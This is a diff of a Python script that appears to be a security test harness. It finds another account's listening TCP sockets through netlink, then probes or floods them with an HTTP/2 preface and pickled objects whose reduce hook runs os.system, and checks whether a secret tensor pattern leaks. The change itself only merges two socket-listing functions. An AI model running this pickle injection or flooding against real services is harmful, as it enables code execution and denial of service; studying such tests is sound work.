@@ -42,10 +42,11 @@ class Evil:
         return (os.system, (f"touch {self.marker}",))
 
 
-def listeners(owner):
+def listeners(owner, bound=False):
     """(inode, host, port) of the owner's listening TCP sockets: asked of the kernel through netlink
     (sock_diag, as `ss` does, which any account may), fast however many sockets the machine has;
-    /proc/net/tcp says the same, slower."""
+    /proc/net/tcp says the same, slower. host: loopback, or (bound) the address each is bound to
+    (loopback for any address)."""
     found = []
     for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
         request = struct.pack("=BBBBI", family, socket.IPPROTO_TCP, 0, 0, 1 << 10) + bytes(48)  # LISTEN only
@@ -62,10 +63,17 @@ def listeners(owner):
                     port = struct.unpack_from(">H", data, off + 20)[0]
                     uid, inode = struct.unpack_from("=II", data, off + 80)
                     if uid == owner:
-                        found.append((inode, host, port))
+                        found.append((inode, _bound(family, data[off + 24:off + 40]) if bound else host, port))
                     off += (length + 3) & ~3
                 done |= not data
     return found
+
+
+def _bound(family, raw):
+    host = socket.inet_ntop(family, raw[:4] if family == socket.AF_INET else raw)
+    if host.startswith("::ffff:") and "." in host:
+        host = host[7:]
+    return "127.0.0.1" if host in ("0.0.0.0", "::") else host
 
 
 def play(sock, inject, seconds, report, pattern, lock):
@@ -162,37 +170,6 @@ def flood(host, port, inject, pattern, report, lock, held):
         _count(report, lock, "refused")
 
 
-def bound_listeners(owner):
-    """(inode, address to connect to, port) of the owner's listening TCP sockets, by the address each
-    is bound to (any address: loopback)."""
-    found = []
-    for family in (socket.AF_INET, socket.AF_INET6):
-        request = struct.pack("=BBBBI", family, socket.IPPROTO_TCP, 0, 0, 1 << 10) + bytes(48)
-        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as s:
-            s.send(struct.pack("=IHHII", 16 + len(request), 20, 0x301, 1, 0) + request)
-            done = False
-            while not done:
-                data, off = s.recv(1 << 16), 0
-                while off + 16 <= len(data):
-                    length, kind = struct.unpack_from("=IH", data, off)
-                    if kind in (2, 3):
-                        done = True
-                        break
-                    port = struct.unpack_from(">H", data, off + 20)[0]
-                    raw = data[off + 24:off + 24 + (4 if family == socket.AF_INET else 16)]
-                    uid, inode = struct.unpack_from("=II", data, off + 80)
-                    host = socket.inet_ntop(family, raw)
-                    if host.startswith("::ffff:") and "." in host:
-                        host = host[7:]
-                    if host in ("0.0.0.0", "::"):
-                        host = "127.0.0.1"
-                    if uid == owner:
-                        found.append((inode, host, port))
-                    off += (length + 3) & ~3
-                done |= not data
-    return found
-
-
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # + an empty SETTINGS
 
 
@@ -233,14 +210,13 @@ def main(mode, owner, seconds, secret, marker):
     pattern = struct.pack("<f", float(secret)) * 8
     inject = pickle.dumps([Evil(marker)] * 4)
     attack = {"take": take, "flood": flood, "probe": probe}[mode]
-    find = bound_listeners if mode == "probe" else listeners
     report = {"uid": os.getuid(), "listeners": 0, "connected": 0, "flood": 0, "oversized": 0, "refused": 0,
               "bytes_read": 0, "tensor_bytes": 0, "injected": 0, "secret": False, "answered": 0, "ports": {}}
     lock, held, seen, threads = threading.Lock(), [], {}, []
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
         now = time.monotonic()
-        for inode, host, port in find(owner):
+        for inode, host, port in listeners(owner, bound=mode == "probe"):
             again = mode in ("flood", "probe") and now - seen.get(inode, now) > {"flood": 2.0, "probe": 1.0}.get(mode)
             if inode not in seen or again:
                 report["listeners"] += inode not in seen
